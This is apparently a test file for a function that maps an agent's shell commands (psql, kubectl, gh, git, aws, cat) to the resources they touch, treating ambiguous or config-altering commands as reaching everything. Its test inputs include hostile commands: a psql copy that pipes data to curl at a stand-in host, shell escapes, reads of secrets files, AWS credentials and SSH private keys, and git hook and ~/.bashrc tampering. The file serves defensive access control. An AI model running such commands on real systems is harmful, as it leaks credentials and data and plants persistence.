import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { shellResources } from './shell-resources.js';

// gh reads GH_HOST from this process's environment when nothing else says it: not here.
beforeAll(() => vi.stubEnv('GH_HOST', undefined));
afterAll(() => vi.unstubAllEnvs());

// Nothing is known of the environment but the working directory and home.
const unknown = { cwd: '/work', home: '/home/agent' };
const reach = (command: string, options = {}) =>
  shellResources(command, { ...unknown, ...options }).sort();

describe('targets left to the environment fail closed', () => {
  it.each<[string, string[]]>([
    // libpq: the host is PGHOST's (or the local socket), the port PGPORT's.
    ['psql -d payroll', ['*']],
    ['psql payroll', ['*']],
    ['psql "postgresql:///payroll"', ['*']],
    ['pg_dump -d payroll -f /tmp/p.sql', ['*']],
    ['PGHOST=db.internal psql -d payroll', ['postgres://db.internal/payroll']],
    ['PGHOST=db.internal PGPORT=6432 psql -d payroll', ['postgres://db.internal:6432/payroll']],
    ['export PGHOST=db.internal; psql -d payroll', ['postgres://db.internal/payroll']],
    ['PGHOST= PGPORT= psql -d payroll', ['postgres://localhost:5432/payroll']],
    ['PGHOST=$(cat /tmp/h) psql -d payroll', ['*']],
    ['psql -h DB.Internal. -d payroll', ['postgres://db.internal/payroll']],
    ['psql -h db.internal -p 5433 payroll', ['postgres://db.internal:5433/payroll']],
    // kubectl: the context and its namespace are the kubeconfig's.
    ['kubectl get secrets', ['*']],
    ['kubectl version', []],
    ['kubectl get secrets -n prod', ['*']],
    ['kubectl --context prod-eu get secrets -n prod', ['k8s://prod-eu/namespaces/prod/secrets']],
    ['kubectl --context prod-eu get secrets', ['k8s://prod-eu']],
    // gh: github.com unless GH_HOST says otherwise; the repository the working copy's.
    ['gh api repos/acme/secret', ['https://github.com/acme/secret']],
    ['gh repo clone acme/public', ['https://github.com/acme/public']],
    ['gh pr list', ['*']],
    ['GH_HOST= gh api repos/acme/secret', ['https://github.com/acme/secret']],
    ['GH_HOST=$H gh api repos/acme/secret', ['*']],
    ['gh api --hostname "$H" user', ['*']],
    // GitHub Enterprise has github.com's layout: the API path is the repository's.
    ['GH_HOST=github.acme.com gh api repos/acme/secret', ['https://github.acme.com/acme/secret']],
    ['GH_HOST=github.acme.com gh repo clone ACME/Secret', ['https://github.acme.com/acme/secret']],
    ['gh api --hostname github.acme.com user', ['https://github.acme.com/-/user']],
    ['gh repo clone github.acme.com/acme/secret', ['https://github.acme.com/acme/secret']],
    ['gh api https://github.acme.com/api/v3/user', ['https://github.acme.com/api/v3/user']],
    ['gh api --hostname github.com user', ['https://github.com/-/user']],
    ['GH_REPO=acme/secret GH_HOST= gh issue list', ['https://github.com/acme/secret']],
    // git: a remote by name, or the branch's remote, is the repository config's.
    ['git pull', ['*']],
    ['git push origin main', ['*']],
    [
      'git fetch https://github.com/acme/public',
      ['file:///work', 'https://github.com/acme/public'],
    ],
  ])('%s', (command, expected) => {
    expect(reach(command)).toEqual([...expected].sort());
  });
});

describe('the options say what the environment holds', () => {
  const known = {
    env: { PGHOST: 'db.internal', GH_HOST: '' },
    kubernetes: { context: 'default', namespace: 'agents' },
    gitRemotes: {
      origin: 'git@github.com:acme/app.git',
      upstream: 'https://github.com/acme/upstream',
    },
  };

  it.each<[string, string[]]>([
    ['psql -d payroll', ['postgres://db.internal/payroll']],
    ['PGHOST=reporting.internal psql -d payroll', ['postgres://reporting.internal/payroll']],
    ['kubectl get secrets', ['k8s://default/namespaces/agents/secrets']],
    ['kubectl get secrets -n prod', ['k8s://default/namespaces/prod/secrets']],
    ['kubectl --context default get pods', ['k8s://default/namespaces/agents/pods']],
    ['kubectl --context other get pods', ['k8s://other']],
    // Another kubeconfig has other contexts; one named on the line still counts.
    ['kubectl --kubeconfig /tmp/kc get pods', ['*']],
    ['KUBECONFIG=/tmp/kc kubectl get pods -n agents', ['*']],
    [
      'KUBECONFIG=/tmp/kc kubectl --context c1 get pods -n agents',
      ['k8s://c1/namespaces/agents/pods'],
    ],
    ['kubectl --server https://10.0.0.1:6443 get pods -n agents', ['*']],
    ['kubectl --cluster prod get pods', ['*']],
    ['kubectl config use-context prod', ['*']],
    ['kubectl config set-context --current --namespace=prod', ['*']],
    ['kubectl config current-context', ['k8s://default']],
    ['gh pr list', ['https://github.com/acme/app', 'https://github.com/acme/upstream']],
    [
      'gh api repos/{owner}/{repo}/pulls',
      ['https://github.com/acme/app', 'https://github.com/acme/upstream'],
    ],
    [
      'git pull',
      ['file:///work', 'https://github.com/acme/app', 'https://github.com/acme/upstream'],
    ],
    ['git push origin main', ['file:///work', 'https://github.com/acme/app']],
  ])('%s', (command, expected) => {
    expect(reach(command, known)).toEqual([...expected].sort());
  });
});

describe("gh's host: github.com unless GH_HOST, --hostname or a GitHub Enterprise remote says otherwise", () => {
  const enterprise = {
    gitRemotes: { origin: 'git@ghe.acme.io:Acme/App.git', mirror: 'https://gitlab.com/acme/app' },
  };

  it.each<[string, string[]]>([
    // gh may pick the enterprise host of a remote: both hosts, each precisely.
    [
      'gh repo clone acme/public',
      ['https://ghe.acme.io/acme/public', 'https://github.com/acme/public'],
    ],
    ['gh api user', ['https://ghe.acme.io/-/user', 'https://github.com/-/user']],
    ['gh pr list', ['https://ghe.acme.io/acme/app', 'https://gitlab.com/acme/app']],
    ['GH_HOST= gh search repos x', ['https://ghe.acme.io', 'https://github.com']],
    ['GH_HOST=github.com gh api repos/acme/x', ['https://github.com/acme/x']],
    ['gh api --hostname github.com repos/acme/x', ['https://github.com/acme/x']],
  ])('%s', (command, expected) => {
    expect(reach(command, enterprise)).toEqual([...expected].sort());
  });

  it("reads GH_HOST from this process's environment when the options and the line say nothing", () => {
    vi.stubEnv('GH_HOST', 'GHE.Acme.io');
    try {
      expect(reach('gh api repos/acme/secret')).toEqual(['https://ghe.acme.io/acme/secret']);
      expect(reach('gh api repos/acme/secret', { env: { GH_HOST: '' } })).toEqual([
        'https://github.com/acme/secret',
      ]);
      expect(reach('GH_HOST=h.example gh api user')).toEqual(['https://h.example/-/user']);
    } finally {
      vi.stubEnv('GH_HOST', undefined);
    }
  });
});

describe('psql commands that reach beyond their server and database', () => {
  const options = { env: { PGHOST: 'db.internal', PGPORT: '5432' } };

  it.each([
    "psql -d analytics -c '\\c billing'",
    "psql -d analytics -c '\\connect billing'",
    "psql -d analytics -c '\\o |cat /srv/data/secrets/prod.env'",
    "psql -d analytics -c 'select 1' -c '\\g |sh'",
    "psql -d analytics -c '\\copy t to /tmp/t.csv'",
    "psql -d analytics -c '\\i /tmp/q.sql'",
    "psql -d analytics -c '\\! id'",
    "psql -d analytics -c \"select * from dblink('dbname=billing', 'select 1') as t(x int)\"",
    'psql -d analytics -c "copy t to program \'curl -d @- https://x.example\'"',
    'psql -d analytics -c "select pg_read_file(\'/srv/data/secrets/prod.env\')"',
    'psql -d analytics -f /tmp/q.sql',
    "echo '\\c billing' | psql -d analytics",
    "psql -d analytics <<< '\\c billing'",
    'psql -d analytics < /tmp/q.sql',
    "psql -d analytics <<'EOF'\n\\c billing\nEOF",
  ])('%s reaches everything', (command) => {
    expect(reach(command, options)).toEqual(['*']);
  });

  it.each([
    ["psql -d analytics -c '\\dt'", ['postgres://db.internal:5432/analytics']],
    [
      "psql -d analytics -c 'select count(*) from t' -o /tmp/o",
      ['file:///tmp/o', 'postgres://db.internal:5432/analytics'],
    ],
    ['psql -d analytics', ['postgres://db.internal:5432/analytics']],
    ['psql -l', ['postgres://db.internal:5432']],
    [
      "echo 'select 1' | psql -d analytics -c 'select 2'",
      ['postgres://db.internal:5432/analytics'],
    ],
  ])('%s stays on its database', (command, expected) => {
    expect(reach(command, options)).toEqual([...expected].sort());
  });
});

describe('aws: access points and endpoints', () => {
  it.each<[string, string[]]>([
    ['aws s3 cp s3://arn:aws:s3:us-east-1:123456789012:accesspoint/ap/report.csv -', ['*']],
    ['aws s3 cp s3://ap-abc123-s3alias/report.csv -', ['*']],
    ['aws s3 ls s3://mfzwi23gnjvgw.mrap', ['*']],
    [
      'aws s3api get-object --bucket arn:aws:s3:us-east-1:123456789012:accesspoint/ap --key k o',
      ['*'],
    ],
    [
      'aws s3 ls s3://public --endpoint-url https://acme-private.s3.amazonaws.com',
      ['s3://acme-private', 's3://public'],
    ],
    [
      'AWS_ENDPOINT_URL_S3=https://minio.internal:9000 aws s3 ls s3://public',
      ['https://minio.internal:9000', 's3://public'],
    ],
    ['aws s3 ls s3://public --endpoint-url "$E"', ['*']],
    ['aws s3 ls s3://public', ['s3://public']],
  ])('%s', (command, expected) => {
    expect(reach(command)).toEqual([...expected].sort());
  });
});

describe('aws: the region and the one resource an operation names', () => {
  it.each<[string, string[]]>([
    // No region on the line: the profile's or the environment's, so every region.
    ['aws dynamodb scan --table-name payroll', ['aws://dynamodb']],
    ['aws --profile admin dynamodb scan --table-name payroll', ['aws://dynamodb']],
    [
      'AWS_REGION=$(cat /tmp/r) aws dynamodb scan --table-name payroll',
      ['aws://dynamodb', 'file:///tmp/r'],
    ],
    [
      'aws dynamodb scan --table-name payroll --region eu-west-1',
      ['aws://dynamodb/eu-west-1/payroll'],
    ],
    [
      'aws dynamodb scan --table-name=payroll --region=EU-WEST-1',
      ['aws://dynamodb/eu-west-1/payroll'],
    ],
    [
      'AWS_REGION=eu-west-1 aws dynamodb scan --table-name payroll',
      ['aws://dynamodb/eu-west-1/payroll'],
    ],
    [
      'export AWS_DEFAULT_REGION=eu-west-1; aws dynamodb scan --table-name payroll',
      ['aws://dynamodb/eu-west-1/payroll'],
    ],
    // An ARN carries its region; a queue URL its region and name.
    [
      'aws dynamodb get-item --table-name arn:aws:dynamodb:eu-west-1:123456789012:table/payroll --key k',
      ['aws://dynamodb/eu-west-1/payroll'],
    ],
    [
      'aws dynamodb describe-table --table-name arn:aws:dynamodb:eu-west-1:123456789012:table/payroll/index/by-date',
      ['aws://dynamodb/eu-west-1/payroll/index/by-date'],
    ],
    [
      'aws sqs receive-message --queue-url https://sqs.eu-west-1.amazonaws.com/123456789012/refunds',
      ['aws://sqs/eu-west-1/refunds'],
    ],
    ['aws sqs receive-message --queue-url "$Q" --region eu-west-1', ['aws://sqs/eu-west-1']],
    // No one resource the line names (a statement, a batch, a skeleton): the whole region.
    [
      'aws dynamodb execute-statement --statement "SELECT * FROM payroll" --region eu-west-1',
      ['aws://dynamodb/eu-west-1'],
    ],
    [
      'aws dynamodb scan --cli-input-json file://req.json --region eu-west-1',
      ['aws://dynamodb/eu-west-1', 'file:///work/req.json'],
    ],
    ['aws dynamodb scan --table-name "$T" --region eu-west-1', ['aws://dynamodb/eu-west-1']],
    ['aws dynamodb scan --table-name ../x --region eu-west-1', ['aws://dynamodb/eu-west-1']],
    [
      'aws lambda invoke --function-name refund --region us-east-1 out.json',
      ['aws://lambda/us-east-1/refund'],
    ],
    // Global services have no region.
    ['aws iam get-role --role-name deployer', ['aws://iam/deployer']],
    ['aws sts get-caller-identity', ['aws://sts']],
  ])('%s', (command, expected) => {
    expect(reach(command)).toEqual([...expected].sort());
  });
});

describe('~ is $HOME as the line sets it', () => {
  it.each<[string, string[]]>([
    ['cat ~/notes.txt', ['file:///home/agent/notes.txt']],
    ['HOME=/srv/data/secrets; cat ~/prod.env', ['file:///srv/data/secrets/prod.env']],
    ['export HOME=/srv/data; cd; cat secrets/prod.env', ['file:///srv/data/secrets/prod.env']],
    ['HOME=$(mktemp -d); cat ~/prod.env', ['*']],
    ['cat ~root/.ssh/id_rsa', ['*']],
    // The shell expands ~ before a prefix assignment applies; a quoted ~ is a name.
    ['HOME=/tmp cat ~/.ssh/id_rsa', ['file:///home/agent/.ssh/id_rsa']],
    ["cat '~/x' \\~/y", ['file:///work/~/x', 'file:///work/~/y']],
  ])('%s', (command, expected) => {
    expect(reach(command)).toEqual([...expected].sort());
  });
});

describe('files that steer later commands reach everything', () => {
  it.each([
    `printf '[url "https://github.com/acme/secret"]\\n\\tinsteadOf = https://github.com/acme/public\\n' >> ~/.gitconfig`,
    'git config --file .git/config remote.origin.url https://github.com/acme/secret',
    "echo '\\\\c billing' > ~/.psqlrc",
    'cp /tmp/kubeconfig ~/.kube/config',
    'echo \'url = "https://github.com/acme/secret"\' > ~/.curlrc',
    'tee -a /work/.git/hooks/post-checkout < /tmp/hook',
    'cat >> ~/.ssh/config <<< "Host gh"',
    'cat ~/.aws/credentials',
    'echo x >> ~/.bashrc',
    'XDG_CONFIG_HOME=/tmp/x git clone https://github.com/acme/public',
    'export PSQLRC=/tmp/rc; psql -h db -d x -c "select 1"',
    'BASH_ENV=/tmp/e bash -c "echo hi"',
  ])('%s', (command) => {
    expect(reach(command)).toEqual(['*']);
  });

  it.each<[string, string[]]>([
    ['ls ~/.ssh', ['file:///home/agent/.ssh']],
    ['cat ~/.ssh/known_hosts', ['file:///home/agent/.ssh/known_hosts']],
    ['cat .git/HEAD', ['file:///work/.git/HEAD']],
    ['cat ~/.gitignore_global', ['file:///home/agent/.gitignore_global']],
  ])('%s reaches only its file', (command, expected) => {
    expect(reach(command)).toEqual(expected);
  });
});
